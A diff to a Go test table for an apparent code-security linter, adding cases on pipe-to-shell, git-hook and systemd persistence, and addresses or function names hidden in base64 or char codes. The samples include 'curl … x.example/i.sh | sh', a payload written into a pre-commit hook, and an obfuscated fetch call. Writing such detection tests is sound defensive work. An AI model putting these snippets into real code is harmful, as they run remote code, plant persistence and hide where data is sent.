@@ -189,6 +189,23 @@ var codeCases = []lintCase{
 	{"hooks.py", "autorun-config", "git(\"config\", \"--global\", \"core.hooksPath\", \".githooks\")\n", "warning", 1},
 	// a scanner's regular expression runs nothing
 	{"scan.py", "pipe-to-shell", "import re\nSUSPICIOUS = re.compile(rb\"(curl|wget|bash|sh -c|https?://)\")\nBAD = re.compile(r\"curl [^|]+\\| *sh\")\n", "note", 2},
+	// a data file's value under a key that names a regular expression
+	{"assets/patterns.yaml", "pipe-to-shell", "patterns:\n  - id: pipe\n    regex: '(?i)\\b(curl|wget)\\b[^|]{0,120}\\|\\s*(sudo\\s+)?(sh|bash)\\b'\n", "note", 3},
+	{"assets/patterns.json", "pipe-to-shell", "{\"pattern\": \"curl -fsSL [^ ]+ | sh\"}\n", "note", 1},
+	{"assets/steps.yaml", "pipe-to-shell", "steps:\n  - run: curl -fsSL https://x.example/i.sh | sh\n", "warning", 2},
+	// a path in a plan the script prints, or in an option's help, is no write
+	{"s.sh", "persistence", "echo \"  pre-commit install (writes .git/hooks/pre-commit)\"\n", "", 0},
+	{"s.sh", "persistence", "printf '%s\\n' \"$payload\" > .git/hooks/pre-commit\n", "warning", 1},
+	{"t.rb", "persistence", "o.on(\"--system\", \"install system units in /etc/systemd/system (root)\") { opts[:scope] = :system }\n", "", 0},
+	{"t.py", "persistence", "p.add_argument(\"--system\", action=\"store_true\", help=\"install units in /etc/systemd/system\")\n", "", 0},
+	{"t.rb", "persistence", "system(\"install -m 0644 unit /etc/systemd/system/x.service\")\n", "warning", 1},
+	// a web address spelled in char codes or base64 hides where code connects
+	{"sync.js", "hidden-address", "const BUCKETS = [104,116,116,112,115,58,47,47,99,46,101,120,97,109,112,108,101,47,118,49];\n", "warning", 1},
+	{"relay.py", "hidden-address", "RELAY = base64.b64decode(\"aHR0cHM6Ly9jb2xsZWN0LmV4YW1wbGUvdjE=\").decode()\n", "warning", 1},
+	{"greet.js", "hidden-address", "const HELLO = [104,101,108,108,111,32,119,111,114,108,100,33,33,33];\n", "", 0},
+	{"assets/secret.yaml", "hidden-address", "url: aHR0cHM6Ly9jb2xsZWN0LmV4YW1wbGUvdjE=\n", "", 0},
+	// a function name decoded from char codes that spells the network is a warning
+	{"s.mjs", "dynamic-exec", "const send = globalThis[String.fromCharCode(102, 101, 116, 99, 104)];\nawait send(u);\n", "warning", 1},
 	// A job command a script only prints or raises as a message names it.
 	{"s.rb", "persistence", "puts \"crontab line: #{cron_line}\"\n", "note", 1},
 	{"s.rb", "persistence", "puts \"#{`crontab x.txt`}\"\n", "warning", 1},
